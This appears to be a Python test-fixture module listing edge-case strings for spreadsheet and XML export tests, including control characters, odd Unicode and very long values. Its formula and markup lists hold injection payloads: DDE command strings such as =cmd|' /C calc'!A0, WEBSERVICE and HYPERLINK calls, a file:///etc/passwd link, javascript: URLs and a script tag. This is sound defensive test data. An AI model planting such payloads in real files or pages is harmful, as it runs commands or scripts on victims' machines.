"""Texts that have broken exports elsewhere: formulas, links, control characters, what XML and UTF-8 cannot carry."""

from __future__ import annotations

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")", "=WEBSERVICE(\"http://example.org\")", "=1;=2", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "'=1+1", "''=1+1", "' =1",
    "＝1+1", "＋1", "－1", "＠A1", "{=1+1}", "=", "+", "-", "@", "-1", "+1", "x;=1+1", "x\t=1+1", "x\n=1+1",
    "\",=1+1", "\"=1+1", "x;'=1", "\t\t=1", "'\t=1", "=\x00", "%0A=1", "\u202e=1+1",
)  # fmt: skip
LINKS = (
    "http://example.org", "https://example.org/?a=1&b=2", "mailto:a@example.org", "internal:Sheet1!A1",
    "external:c:\\temp\\x.xlsx", "file:///etc/passwd", "ftp://example.org", "javascript:alert(1)", "\\\\host\\share",
)  # fmt: skip
MARKUP = (
    "&amp;&lt;&#0;&#x1;", "<script>alert(1)</script>", "<c r=\"A1\"><f>1+1</f></c>", "]]>", "<!-- x -->", "_x0000_",
    "_x0041_", "_x005F_x0041_", "_x000D_", "<r><t>rich</t></r>", "<r>&</r>\n",
    "<?xml version='1.0'?>", "&", "<", ">",
)  # fmt: skip
CHARACTERS = (
    "", " ", "  two  blanks  ", "\n", "a\nb", "a\r\nb", "a\rb", "a\tb", "\x00", "a\x00b", "\x01\x08\x0b\x0c\x0e\x1f",
    "\x7f\x80\x9f", "\ufffe\uffff", "\ud800", "\udfff", "a\ud83db", "\ud83d\ude00", "\udc80\udcff", "😀🇪🇺👩\u200d🚀",
    "\u05e9\u05dc\u05d5\u05dd \u202eabc", "\u2066x\u2069", "e\u0301", "Türkiye", "日本", "\u2028\u2029",
    "\x85", "\ufeff", "\U0010ffff", "\U0001fffe",
)  # fmt: skip
WORDS = (
    "1", "007", "1e5", "TRUE", "null", "NaN", "inf", "#N/A", "#REF!", "2026-01-01", "'", "\"", "\"\"", ",", ";", "a,b",
    "a\"b", "'quoted'",
)  # fmt: skip
LONG = ("x" * 32_767, "x" * 32_768, "😀" * 16_384, "=" * 40_000, "a" + "😀" * 40_000, "long " * 20_000, "&" * 33_000)

TEXTS = (*FORMULAS, *LINKS, *MARKUP, *CHARACTERS, *WORDS, *LONG)
